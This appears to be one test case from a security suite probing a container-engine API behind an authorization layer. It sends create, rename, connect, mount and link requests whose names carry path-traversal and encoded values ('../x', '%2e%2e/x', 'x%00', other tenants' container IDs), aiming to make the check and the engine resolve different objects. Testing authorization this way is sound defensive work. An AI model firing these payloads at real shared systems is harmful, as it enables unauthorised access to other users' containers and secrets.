import { type Attempt, type Call, calls, container, service } from './book';

export const attempt: Attempt = {
  title: 'name objects by paths, so that whoever looks for them asks for something else',
  source: 'path traversal on the way from a check to the engine: an engine cleans `..` out of a path and redirects',
  async try(world) {
    const names = ['../x', '..', '../../x', `../containers/${world.foreign[0]!.container.id}`, `../networks/${world.own.network.id}`,
      '../v1.41/info', '/', './x', 'x/..', 'x/../../info', '%2e%2e/x', '..%2Fx', 'x?a=b', 'x#y', 'a b', 'x%00'];
    const file = { Name: 'x', UID: '0', GID: '0', Mode: 292 };
    return calls(world, names.flatMap((name): Call[] => [
      ['POST', `/containers/create?name=${encodeURIComponent(name)}`, container(world)], ['POST',
        `/containers/${world.own.container.id}/rename?name=${encodeURIComponent(name)}`], ['POST', '/volumes/create', { Name: name }],
        ['POST', '/networks/create', { Name: name, Driver: 'host' }],
      ['POST', '/services/create', service(world, {}, { Name: name })], ['POST', '/secrets/create', { Name: name, Data: 'YQ==' }], ['POST',
        '/configs/create', { Name: name, Data: 'YQ==' }], ['POST', '/containers/create', container(world,
        { HostConfig: { NetworkMode: name } })], ['POST', '/containers/create', container(world,
        { HostConfig: { NetworkMode: `container:${name}` } })],
      ['POST', '/containers/create', container(world, { HostConfig: { Links: [`${name}:y`] } })], ['POST', '/containers/create',
        container(world, { HostConfig: { Mounts: [{ Type: 'volume', Source: name, Target: '/x' }] } })], ['POST',
        `/networks/${world.own.network.id}/connect`, { Container: name }],
      ['POST', '/services/create', service(world, {}, { Networks: [{ Target: name }] })], ['POST', '/services/create', service(world,
        { Secrets: [{ File: file, SecretID: name, SecretName: 'x' }] })], ['POST', '/services/create', service(world,
        { Configs: [{ File: file, ConfigID: name, ConfigName: 'x' }] })],
    ]));
  },
};
